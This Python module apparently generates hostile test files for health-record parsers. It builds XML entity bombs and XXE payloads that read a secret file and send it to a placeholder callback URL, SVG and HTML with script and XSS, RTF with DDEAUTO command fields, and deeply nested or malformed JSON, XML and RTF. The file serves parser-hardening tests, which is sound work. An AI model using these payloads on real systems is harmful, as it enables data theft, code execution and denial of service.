"""XML, C-CDA, FHIR JSON, HTML, SVG and RTF that attack whoever parses them."""

from __future__ import annotations

import base64
import json

from hostile_model import (
    ANY,
    BROKEN,
    CALLBACK_URL,
    ESCAPE_NAME,
    INERT,
    PROBE_FAMILY,
    PROBE_GIVEN,
    SECRET_FILE,
    Draw,
    FileRecipe,
)

_XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
_CDA_HEAD = (
    '<ClinicalDocument xmlns="urn:hl7-org:v3"><recordTarget><patientRole>'
    f"<patient><name><family>{PROBE_FAMILY}</family><given>{PROBE_GIVEN}</given>"
    '</name><birthTime value="19000101"/></patient></patientRole></recordTarget>'
)


def _cda(note: str, declaration: str = "") -> bytes:
    body = (
        "<component><structuredBody><component><section><title>Notes</title>"
        f"<text>{note}</text></section></component></structuredBody></component>"
    )
    return f"{_XML}{declaration}{_CDA_HEAD}{body}</ClinicalDocument>".encode()


def _laughs(draw: Draw) -> bytes:
    levels = draw.around(10, 0.4)
    lines = ['<!ENTITY l0 "laugh">']
    for level in range(1, levels):
        lines.append(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">')
    doctype = f"<!DOCTYPE ClinicalDocument [{''.join(lines)}]>"
    return _cda(f"&l{levels - 1};", doctype)


def _quadratic(draw: Draw) -> bytes:
    long = "a" * draw.around(60_000)
    return _cda("&a;" * 60_000, f'<!DOCTYPE ClinicalDocument [<!ENTITY a "{long}">]>')


def _external(draw: Draw) -> bytes:
    targets = (f"file://{SECRET_FILE}", CALLBACK_URL, "file:///dev/zero", "/etc/hosts")
    target = targets[draw.turn % len(targets)]
    entity = f'<!ENTITY x SYSTEM "{target}">'
    return _cda("Secret: &x;", f"<!DOCTYPE ClinicalDocument [{entity}]>")


def _parameter(draw: Draw) -> bytes:
    del draw
    file = f'<!ENTITY % file SYSTEM "file://{SECRET_FILE}">'
    remote = f'<!ENTITY % remote SYSTEM "{CALLBACK_URL}.dtd"> %remote;'
    send = f"<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '{CALLBACK_URL}?%file;'>\"> %all; %send;"
    return _cda("note", f"<!DOCTYPE ClinicalDocument [{file}{remote}{send}]>")


def _doctype(draw: Draw) -> bytes:
    del draw
    return _cda("note", f'<!DOCTYPE ClinicalDocument SYSTEM "{CALLBACK_URL}.dtd">')


def _include(draw: Draw) -> bytes:
    del draw
    space = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    note = f'<xi:include {space} href="file://{SECRET_FILE}" parse="text"/>'
    style = f'<?xml-stylesheet type="text/xsl" href="{CALLBACK_URL}.xsl"?>'
    return _cda(note, style)


def _deep_xml(draw: Draw) -> bytes:
    depth = draw.around(100_000)
    return _cda("<list>" * depth + "note" + "</list>" * depth)


def _wide_xml(draw: Draw) -> bytes:
    names = " ".join(f'a{n}="{n}"' for n in range(draw.around(50_000)))
    spaces = " ".join(f'xmlns:p{n}="urn:{n}"' for n in range(5000))
    return _cda(f"<paragraph {names} {spaces}>note</paragraph>")


def _broken_xml(draw: Draw) -> bytes:
    whole = _cda("<paragraph>A &amp; B</paragraph>" * 50)
    wrong = whole.replace(b"&amp;", b"&", 3).replace(b"</paragraph>", b"\x00\x0b", 2)
    return wrong[: draw.rng.randrange(600, len(wrong) - 100)]


def _wrong_encoding(draw: Draw) -> bytes:
    names = ("UTF-16", "EBCDIC-CP-US", "UTF-7", "x-unknown", "ISO-2022-KR")
    name = names[draw.turn % len(names)]
    return _cda("Müller 王小明 Юлия").replace(b"UTF-8", name.encode(), 1)


def _huge_base64(draw: Draw) -> bytes:
    blob = base64.b64encode(draw.rng.randbytes(draw.around(3_000_000))).decode()
    media = '<observationMedia classCode="OBS"><value mediaType="application/pdf"'
    return _cda(f'{media} representation="B64">{blob}</value></observationMedia>')


def _patient(extra: str) -> bytes:
    name = f'[{{"family":"{PROBE_FAMILY}","given":["{PROBE_GIVEN}"]}}]'
    return f'{{"resourceType":"Patient","name":{name},{extra}}}'.encode()


def _deep_json(draw: Draw) -> bytes:
    depth = draw.around(100_000)
    return _patient('"extension":' + '[{"extension":' * depth + "1" + "}]" * depth)


def _odd_numbers(draw: Draw) -> bytes:
    numbers = "[NaN,Infinity,-Infinity,1e999,-0.0," + "9" * draw.around(20_000) + "]"
    return _patient(f'"multipleBirthInteger":NaN,"note":{numbers}')


def _bad_utf8(draw: Draw) -> bytes:
    odd = b"\xff\xfe\xc0\xaf\xed\xa0\x80\\ud800\\u0000" + draw.rng.randbytes(9).hex().encode()
    return _patient('"text":{"div":"@"}').replace(b"@", odd, 1)


def _duplicate_keys(draw: Draw) -> bytes:
    others = ",".join(
        f'"birthDate":"{1900 + n}-01-01","gender":"{g}"'
        for n, g in enumerate(("male", "female", "other"))
    )
    again = f'"resourceType":"Observation","name":[{{"text":"{draw.token()}"}}]'
    return _patient(f"{others},{again}")


def _wrong_types(draw: Draw) -> bytes:
    odd: list[object] = [None, True, -1, "", [], {}, [[]], {"resourceType": []}]
    draw.rng.shuffle(odd)
    entries = [{"resource": value, "fullUrl": value} for value in odd]
    entries += [{"resource": {"resourceType": "Observation", "code": v}} for v in odd]
    return json.dumps({"resourceType": "Bundle", "entry": entries}).encode()


def _reference_loop(draw: Draw) -> bytes:
    """Reports that are part of one another, and an attachment with an address."""
    size = draw.around(500)
    entries = []
    for n in range(size):
        after = f"DiagnosticReport/{(n + 1) % size}"
        report = {
            "resourceType": "DiagnosticReport",
            "id": str(n),
            "basedOn": [{"reference": after}],
            "result": [{"reference": after}, {"reference": CALLBACK_URL}],
            "presentedForm": [{"url": f"file://{SECRET_FILE}"}],
        }
        entries.append({"resource": report})
    return json.dumps({"resourceType": "Bundle", "entry": entries}).encode()


def _svg(draw: Draw) -> bytes:
    text = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">'
        f"<script>fetch('{CALLBACK_URL}')</script>"
        f'<image xlink:href="{CALLBACK_URL}"/><use xlink:href="#a"/>'
        f'<g id="a"><use xlink:href="#a"/></g><text>{draw.token()}</text>'
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
        f"src='file://{SECRET_FILE}'/></foreignObject></svg>"
    )
    return (_XML + text).encode()


def _html(draw: Draw) -> bytes:
    text = (
        f'<!doctype html><meta http-equiv=refresh content="0;url={CALLBACK_URL}">'
        f"<title>{draw.token()}</title><base href='{CALLBACK_URL}/'>"
        f"<link rel=stylesheet href=a.css><script src={CALLBACK_URL}></script>"
        f"<script>document.location='{CALLBACK_URL}'</script>"
        f"<iframe src='file://{SECRET_FILE}'></iframe><img src=x onerror=alert(1)>"
        f"<object data={CALLBACK_URL}></object><form action={CALLBACK_URL}>"
        f"<a href='javascript:alert(1)'>report</a><p>{PROBE_FAMILY}</p>"
        "<style>@import 'a.css';p{background:url(b.png)}</style>"
    )
    return text.encode()


def _deep_html(draw: Draw) -> bytes:
    return b"<!doctype html>" + b"<div><b><table><tr><td>" * draw.around(30_000)


def _rtf_object(draw: Draw) -> bytes:
    data = draw.rng.randbytes(500).hex()
    text = (
        r"{\rtf1\ansi{\object\objemb\objupdate{\*\objclass Package}"
        rf"{{\*\objdata {data}}}}}"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{CALLBACK_URL}"}}}}'
        rf'{{\field{{\*\fldinst DDEAUTO c:\\cmd "/k {ESCAPE_NAME}"}}}}'
        rf"{{\*\template {CALLBACK_URL}}} Synthetic letter {draw.token()}\par}}"
    )
    return text.encode()


def _rtf_deep(draw: Draw) -> bytes:
    return rb"{\rtf1\ansi " + b"{" * draw.around(100_000) + b"note}}}"


def _rtf_binary(draw: Draw) -> bytes:
    """Lengths of binary data, skips and codes far outside what is there."""
    odd = rb"{\rtf1\ansi\ansicpg99999\uc999999999\u-999999 ? \bin2147483647 "
    return odd + draw.rng.randbytes(300) + rb"\'zz\'" + b"\\x" * 5000 + b"}"


RECIPES = (
    FileRecipe("xml-billion-laughs", ".xml", BROKEN, _laughs),
    FileRecipe("fhir-json-deep", ".json", BROKEN, _deep_json),
    FileRecipe("xml-external-entity", ".xml", INERT, _external),
    FileRecipe("html-active", ".html", ANY, _html),
    FileRecipe("rtf-deep-braces", ".rtf", INERT, _rtf_deep),
    FileRecipe("xml-parameter-entity", ".xml", INERT, _parameter),
    FileRecipe("xml-deep", ".xml", BROKEN, _deep_xml),
    FileRecipe("svg-script", ".svg", ANY, _svg),
    FileRecipe("ccda-huge-base64", ".xml", INERT, _huge_base64),
    FileRecipe("fhir-json-nan", ".json", INERT, _odd_numbers),
    FileRecipe("xml-doctype", ".xml", INERT, _doctype),
    FileRecipe("xml-include", ".xml", INERT, _include),
    FileRecipe("xml-quadratic", ".xml", BROKEN, _quadratic),
    FileRecipe("xml-wide", ".xml", INERT, _wide_xml),
    FileRecipe("xml-broken", ".xml", BROKEN, _broken_xml),
    FileRecipe("xml-wrong-encoding", ".xml", INERT, _wrong_encoding),
    FileRecipe("fhir-json-bad-utf8", ".json", INERT, _bad_utf8),
    FileRecipe("fhir-json-duplicate-keys", ".json", INERT, _duplicate_keys),
    FileRecipe("fhir-json-wrong-types", ".json", ANY, _wrong_types),
    FileRecipe("fhir-json-loop", ".json", INERT, _reference_loop),
    FileRecipe("html-deep", ".htm", ANY, _deep_html),
    FileRecipe("rtf-object", ".rtf", INERT, _rtf_object),
    FileRecipe("rtf-binary", ".rtf", INERT, _rtf_binary),
)
